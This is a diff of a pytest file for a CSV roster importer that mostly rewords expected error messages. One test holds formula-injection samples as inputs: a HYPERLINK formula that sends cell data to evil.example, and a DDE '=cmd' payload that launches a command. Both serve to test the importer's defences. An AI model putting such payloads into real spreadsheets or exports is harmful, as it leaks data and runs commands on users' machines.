@@ -92,18 +92,18 @@ def test_missing_cells_are_empty() -> None:
     [
         (b"", "empty", "is empty"),
         (b"\xef\xbb\xbf \r\n", "empty", "is empty"),
-        (b"name,email\n", "no_lines", "nobody behind the first line"),
+        (b"name,email\n", "no_lines", "nobody below the first row"),
         (b"name,email\n,\n \n", "no_lines", ""),
         (b"Ana,ana@example.com\n", "no_name_column", "name, email, role"),
-        (b"email\nx@y.de", "no_name_column", "“name” is not among them"),
+        (b"email\nx@y.de", "no_name_column", "“name” is missing"),
         (b"name,email,Name\nA,b@c.de,B", "column_twice", "two columns “name”"),
-        ("name\nAna\nJosé\n".encode("latin-1"), "encoding", "Line 3 is not UTF-8"),
+        ("name\nAna\nJosé\n".encode("latin-1"), "encoding", "Row 3 is not UTF-8"),
         ("name\nAna".encode("utf-16-le"), "encoding", "CSV UTF-8"),
         ("name\nAna".encode("utf-32"), "encoding", ""),
         (b"\xff\xfen\0a\0m", "encoding", ""),
         (b"PK\x03\x04 a workbook", "workbook", "Save it as “CSV UTF-8”"),
-        (b'name,email\nA,\n"B,b@c.de\nC,', "quotation_marks", "From line 3 on"),
-        (b'name\nA\n"B" x\nC,', "quotation_marks", "From line 3 on"),
+        (b'name,email\nA,\n"B,b@c.de\nC,', "quotation_marks", "From row 3 on"),
+        (b'name\nA\n"B" x\nC,', "quotation_marks", "From row 3 on"),
     ],
 )
 def test_what_is_no_roster_is_refused_with_a_reason(
@@ -124,7 +124,7 @@ def test_too_many_lines_are_refused() -> None:
 def test_a_formula_is_a_name_like_any_other() -> None:
     name = '=HYPERLINK("http://evil.example/?"&A1)'
     assert understood(name=name)["name"] == name
-    assert "no email address" in fault(email="=cmd|' /C calc'!A0")["email"]
+    assert "not an email address" in fault(email="=cmd|' /C calc'!A0")["email"]
 
 
 @pytest.mark.parametrize(
@@ -185,13 +185,13 @@ def test_values_are_understood_however_they_are_written() -> None:
 @pytest.mark.parametrize(
     ("column", "value", "said"),
     [
-        ("email", "ana(at)example.com", "“ana(at)example.com” is no email address"),
+        ("email", "ana(at)example.com", "“ana(at)example.com” is not an email address"),
         ("email", f"a@{'x' * 300}.de", "At most 254"),
-        ("email", "a\0@example.com", "no email address"),
+        ("email", "a\0@example.com", "not an email address"),
         ("role", "teacher", "“teacher” is not one of: host, attendee."),
-        ("registration", "yes", "is none of: registered"),
+        ("registration", "yes", "is not one of: registered"),
         ("time_zone", "Riyad", "Asia/Riyadh"),
-        ("language", "xx", "is none of: en, ar"),
+        ("language", "xx", "is not one of: en, ar"),
     ],
 )
 def test_each_column_says_what_would_be_right(
